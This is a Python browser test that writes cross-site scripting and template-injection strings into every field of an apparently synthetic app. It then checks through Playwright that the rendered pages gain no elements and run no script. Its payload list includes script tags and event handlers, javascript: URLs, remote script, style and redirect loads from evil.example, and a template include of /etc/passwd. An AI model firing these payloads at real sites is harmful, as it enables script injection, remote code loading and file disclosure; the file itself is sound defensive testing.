"""Texts that try to become elements or to run, a world that has them in every field, and what a browser makes of it.

The same world is made a second time with harmless texts. A page of the one has the elements and attributes of the
other, neither more nor fewer: so nothing was injected, whatever it looks like.
"""

from __future__ import annotations

import asyncio
from collections import Counter
from collections.abc import Mapping, Sequence
from itertools import cycle
from typing import Any

from playwright.async_api import Error

from loom import Actor, Command, Loom
from loom.policies import Table
from loom.precedents import EquivalenceRule
from tests.explorer.support import Browser, Place
from tests.explorer.tour import addresses

_PAYLOADS = (
    "<script>{}</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    '<a href="javascript:{}">x</a>',
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<math><mtext><style><img src=x onerror={}>",
    "<object data=javascript:{}>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example';*{{color:red}}</style>",
    "<form action=//evil.example><button>x",
    " onmouseover={} x=",
    " autofocus onfocus={} x=",
    "{{{{ self.__init__.__globals__ }}}}",
    "{{% include '/etc/passwd' %}}",
    "javascript:{}",
)
_OPENERS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</p>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</option></select>",
    "</dd></dl>",
    "\u202e",
    "\u2028",
    '\\"',
    "&quot;>",
    "&#x22;>",
    "%22%3E",
)
RUN = "window.pwned=1"

TEXTS = tuple(opener + payload.format(RUN) for payload in _PAYLOADS for opener in _OPENERS)
PLAIN = tuple(f"harmless text {number}" for number in range(len(TEXTS)))


class Record(Command[bool]):
    """What is written in every field that takes a text."""

    texts: tuple[str, ...]
    approver: str


class Source:
    """Gives texts to fields: `each` at a time, going on from field to field.

    With `exact`, all fields of one decision get the same ones, the next decision the next: so every field has every
    text in the end.
    """

    def __init__(self, texts: Sequence[str], *, start: int = 0, each: int = 4, exact: bool = False) -> None:
        self._texts = texts
        self._each = each
        self._exact = exact
        self._at = start

    def some(self) -> str:
        """Return what a field holds."""
        found = [self._texts[(self._at + number) % len(self._texts)] for number in range(self._each)]
        if not self._exact:
            self._at += self._each
        return " ".join(found)

    def name(self) -> str:
        """Return what a name is made of, of those texts that loom takes as a part of one."""
        found = "".join(each for each in self.some() if each.isprintable()).strip()[:190].strip()
        return found or "x"

    def next_decision(self) -> None:
        """Go on with the next texts."""
        if self._exact:
            self._at += self._each


def policy_of(texts: Sequence[str]) -> Table:
    """Return a policy whose reasons are these texts."""
    said = " ".join(texts)
    return Table.of(
        {
            "format": "loom.table/1",
            "name": "hostile",
            "facts": {"said": {"type": "string"}, "size": {"type": "integer"}},
            "parameters": {"ceiling": {"type": "integer", "value": 10, "min": 0, "max": 50}},
            "rules": [
                {"name": "never", "when": [["said", "=", texts[0]]], "effect": "allow", "why": said},
                {"name": "never either", "when": [["size", ">", {"param": "ceiling"}]], "effect": "allow", "why": said},
                {"name": "always", "when": [["said", "!=", "x"]], "effect": "require_approval", "why": said},
            ],
            "otherwise": {"name": "otherwise", "effect": "deny", "why": said},
        }
    )


def clerk_of(texts: Sequence[str]) -> type[Actor[Any]]:
    class Clerk(Actor[None]):
        actor_type = "clerk"
        policy = policy_of(texts)
        equivalence = EquivalenceRule("clerk", attributes=("said",), outcome=("granted",))

        async def execute(self, command: Record) -> bool:
            text = cycle(command.texts)
            await self.gather_context(
                system=next(text), entity=next(text), query=next(text), relevance=next(text), fetcher=lambda: next(text)
            )
            facts = {"said": command.texts[0], "size": 1}
            self.evaluate(facts)
            await self.find_precedents(text="harmless")
            approval = await self.request_approval(
                approver=command.approver, reason=next(text), action=next(text), arguments={"to": next(text)}
            )
            if approval.granted:
                said = command.texts
                await self.perform(
                    action=said[1], effect=lambda _: {"did": said[2]}, key="k", arguments={"to": said[3]}
                )
            await self.record_decision(
                rationale="harmless " + next(text),
                reasoning=[next(text), next(text)],
                alternatives=[{"option": next(text), "rejected_because": next(text)}],
                outcome={"granted": approval.granted, "note": next(text)},
                context={"note": next(text)},
                is_exception=True,
                exception_reason=next(text),
            )
            return approval.granted

    return Clerk


async def fill(loom: Loom, clerk: type[Actor[Any]], source: Source, *, decisions: int) -> None:
    """Have every field of some decisions hold texts; the last request waits with a question.

    The first two are about the same thing with the same texts, and one is denied and one granted: a contradiction.
    """
    said = ""
    async with loom.runs.run(run_id="all", parameters={"note": source.some()}, note=source.some()):
        for number in range(decisions):
            key = f"{number}-{source.name()}".replace("/", "|")[:190].strip()
            said = said if number == 1 else source.some()
            command = Record(texts=(said, *(source.some() for _ in range(22))), approver=source.name())
            turn = asyncio.create_task(loom.actor(clerk, key).ask(command, by=source.name()))
            while not (waiting := await loom.approvals.pending()):
                await asyncio.sleep(0.005)
                assert not turn.done(), turn.result()
            [request] = waiting
            await loom.approvals.send_back(request.approval_id, by="1" + source.name(), question=source.some())
            if number == decisions - 1:
                turn.add_done_callback(lambda done: done.cancelled() or done.exception())
                return
            await loom.approvals.inform(request.approval_id, by="2" + source.name(), information=source.some())
            if number % 2:
                words: dict[str, Any] = {"comment": source.some(), "distinguished": source.some()}
                await loom.approvals.grant(request.approval_id, by="3" + source.name(), **words)
            else:
                await loom.approvals.deny(request.approval_id, by="3" + source.name(), comment=source.some())
            await turn
            [decision] = await loom.traces.find(limit=1)
            for correct in (True, None):
                actual, feedback = {"note": source.some()}, source.some()
                await loom.outcomes.observe(
                    decision.decision_id, correct=correct, actual=actual, feedback=feedback, by=source.name()
                )
            if number:
                source.next_decision()


SKELETON = """
(html) => {
  const root = html === null ? document : new DOMParser().parseFromString(html, "text/html");
  const links = new Set(["href", "src", "action", "formaction", "srcset", "data"]);
  const all = [...root.querySelectorAll("*")].filter((each) => !each.closest("noscript"));
  return all.map((each) => each.tagName + " " + [...each.attributes].filter((one) => one.name !== "hidden").map(
    (one) => links.has(one.name) ? one.name + "=" + (/^([/#?]|$)/.test(one.value) ? "ours" : one.value) : one.name
  ).sort().join(" "));
}
"""
"""The elements of a page with the names of their attributes, and where they lead if that is not to us.

What is for browsers without scripts is left out, as it is text for a browser that has them, and so is `hidden`, which
scripts set.
"""


def injected(hostile: Sequence[str], plain: Sequence[str]) -> Mapping[str, int]:
    """Return which elements a page has more, or fewer, than the same page with harmless texts."""
    more, fewer = Counter(hostile), Counter(plain)
    return {name: more[name] - fewer[name] for name in {*more, *fewer} if more[name] != fewer[name]}


async def looked_at(page: Any, place: Place, browser: Browser, *, decisions: int) -> tuple[int, list[str]]:
    """Open every page of the hostile world; return how many there were, and what went wrong on them."""
    found = []
    pairs = list(
        zip(
            await addresses(place, "hostile", decisions=decisions),
            await addresses(place, "plain", decisions=decisions),
            strict=True,
        )
    )
    for hostile, plain in pairs:
        answer = await browser.open(plain)
        assert answer.status == 200, (plain, answer.text[-2_000:])
        try:
            found += [f"{hostile}: {each}" for each in await _wrong(page, place.url + hostile, answer.text)]
        except Error as error:  # an element that was injected may lead the browser away
            found.append(f"{hostile}: {error.message}")
    return len(pairs), found


async def _wrong(page: Any, address: str, expected: str) -> list[str]:
    """Open one page; return what is on it that is not on the expected one."""
    await page.goto(address)
    theirs, ours = await page.evaluate(SKELETON, None), await page.evaluate(SKELETON, expected)
    assert len(ours) > 20
    found = [f"{name} {count:+}" for name, count in injected(theirs, ours).items()]
    if await page.evaluate("window.pwned !== undefined"):
        found.append("it ran")
    if await page.evaluate("document.documentElement.scrollWidth > window.innerWidth"):
        found.append("it scrolls sideways")
    return found
